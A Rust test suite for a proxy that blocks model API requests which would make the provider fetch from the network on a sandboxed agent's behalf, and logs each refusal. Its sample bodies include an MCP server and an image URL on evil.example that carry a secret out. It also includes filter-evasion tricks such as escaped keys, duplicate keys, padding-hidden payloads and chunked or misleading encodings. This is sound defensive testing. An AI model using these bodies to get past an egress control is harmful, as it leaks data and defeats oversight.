//! A container without a network has none by way of its model either.
#![expect(clippy::disallowed_methods, reason = "tests play the user")]

use std::fs;

use super::{
    super::support::{Root, wait_for},
    daemon::{AWAKE, awake},
    host::{Host, message},
    scene::{Agent, KEY, Scene, ask, long},
};

/// Requests that make the model's host reach out, each with its refusal.
const FETCHING: [(&str, &str); 7] = [
    (r#"{"tools":[{"type":"web_search_20250305","name":"web_search"}]}"#, "web_search_20250305"),
    (r#"{"tools":[{"\u0074ype":"web_\u0066etch_20250910","name":"web_fetch"}]}"#, "web_fetch_20250910"),
    (r#"{"tools":[{"type":"custom","type":"code_execution_20250825"}]}"#, "code_execution_20250825"),
    (r#"{"mcp_servers":[{"type":"url","url":"https://evil.example/sse","name":"x"}]}"#, "mcp_servers"),
    (
        r#"{"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}]}]}"#,
        "\"url\"",
    ),
    (
        r#"{"messages":[{"role":"user","content":[{"type":"tool_result","content":[{"type":"document","source":{"type":"url","url":"x"}}]}]}]}"#,
        "\"url\"",
    ),
    (
        r#"{"system":[{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url","url":"x"}}]}}]}"#,
        "\"url\"",
    ),
];

#[test]
fn a_request_that_makes_the_models_host_reach_out_is_refused_with_the_way_to_allow_it() {
    let host = Host::always(message("m", 1, 2));
    let scene = Scene::new(&host);
    let socket = scene.open(1);
    for (body, word) in FETCHING {
        for target in ["POST /v1/messages?beta=true", "POST /v1/messages/count_tokens"] {
            let mut agent = Agent::connect(&socket);
            agent.request(target, "", body);
            let answer = agent.answer();
            let (kind, text) = answer.error();
            assert_eq!((answer.status, kind.as_str()), (403, "permission_error"), "{body}");
            assert!(text.contains(word) && text.contains("egress=model_fetch"), "{text}");
        }
    }
    assert_eq!(host.connections(), 0, "nothing of it went up");
    let page = scene.page(1);
    assert_eq!(page.refused, 14);
    assert!(page.refusals.iter().all(|refusal| refusal.why.contains("egress=model_fetch")), "{page:?}");
    let allowed = scene.open_unseen(2);
    for (body, _) in FETCHING {
        assert_eq!(ask(&allowed, body).status, 200);
    }
}

#[test]
fn a_request_that_is_found_out_late_is_not_passed_on_to_its_end() {
    let host = Host::always(message("m", 1, 2));
    let scene = Scene::new(&host);
    let socket = scene.open(1);
    for (body, _) in FETCHING {
        let late = format!("{},{}", long(4 << 20).trim_end_matches('}'), &body[1..]);
        let answer = ask(&socket, &late);
        assert_eq!(answer.status, 403, "{body}");
        let mut agent = Agent::connect(&socket);
        agent.write(b"POST /v1/messages HTTP/1.1\r\nhost: model\r\ntransfer-encoding: chunked\r\n\r\n");
        for piece in late.as_bytes().chunks(100_000) {
            agent.write(format!("{:x}\r\n", piece.len()).as_bytes());
            agent.write(piece);
            agent.write(b"\r\n");
        }
        agent.write(b"0\r\n\r\n");
        assert_eq!(agent.answer().status, 403, "{body}");
    }
    assert!(host.seen().is_empty(), "half a request is none");
    let mut long = long(4 << 20);
    assert_eq!(ask(&socket, &long).status, 200);
    long.pop();
    let answer = ask(&socket, &long);
    assert_eq!((answer.status, answer.error().0.as_str()), (400, "invalid_request_error"));
    assert_eq!(host.seen().len(), 1, "what does not end is not passed on to its last byte");
}

#[test]
fn a_body_that_is_not_understood_is_refused_and_others_pass_as_they_were_read() {
    let host = Host::always(message("m", 1, 2));
    let scene = Scene::new(&host);
    let socket = scene.open(1);
    let utf16: Vec<u8> = "{\"tools\":[]}".encode_utf16().flat_map(u16::to_le_bytes).collect();
    let gzip = b"\x1f\x8b\x08\0\0\0\0\0".to_vec();
    for body in [
        b"".to_vec(),
        b"x=1".to_vec(),
        b"[]".to_vec(),
        b"{}{}".to_vec(),
        b"\xef\xbb\xbf{}".to_vec(),
        utf16,
        gzip,
    ] {
        let mut agent = Agent::connect(&socket);
        let length = body.len();
        agent.write(
            format!("POST /v1/messages HTTP/1.1\r\nhost: model\r\ncontent-length: {length}\r\n\r\n")
                .as_bytes(),
        );
        agent.write(&body);
        let answer = agent.answer();
        assert_eq!((answer.status, answer.error().0.as_str()), (400, "invalid_request_error"), "{body:?}");
        assert!(answer.error().1.contains("not understood"), "{answer:?}");
    }
    assert_eq!(host.connections(), 0);
    let mut agent = Agent::connect(&socket);
    let sneaky = "content-type: application/json; charset=utf-7\r\ncontent-encoding: gzip\r\n";
    agent.write(
        format!("POST /v1/messages HTTP/1.1\r\nhost: model\r\n{sneaky}content-length: 2\r\n\r\n{{}}")
            .as_bytes(),
    );
    assert_eq!(agent.answer().status, 200);
    let seen = host.one();
    assert_eq!(
        (seen.header("content-type"), seen.header("content-encoding")),
        (Some("application/json"), None)
    );
}

#[test]
fn a_group_s_setting_allows_it_and_a_refusal_is_shown_with_its_run() {
    let host = Host::always(message("m", 1, 2));
    let root = Root::new(AWAKE);
    let (body, word) = FETCHING[0];
    let (daemon, socket) = awake(&root, &[("ANTHROPIC_BASE_URL", &host.url())]);
    assert_eq!(ask(&socket, body).status, 403);
    wait_for("the refusal to be stored", || {
        let run = root.json(&["runs", "show", "1"]);
        run["refusals"][0]["why"].as_str().is_some_and(|why| why.contains(word)).then_some(())
    });
    drop(daemon);

    let root = Root::new(AWAKE);
    fs::write(root.path().join(".env"), format!("ANTHROPIC_API_KEY={KEY}\n")).unwrap();
    root.g2(&["groups", "set", "main", "egress=model_fetch"]);
    let (_daemon, socket) = awake(&root, &[("ANTHROPIC_BASE_URL", &host.url())]);
    assert_eq!(ask(&socket, body).status, 200);
}
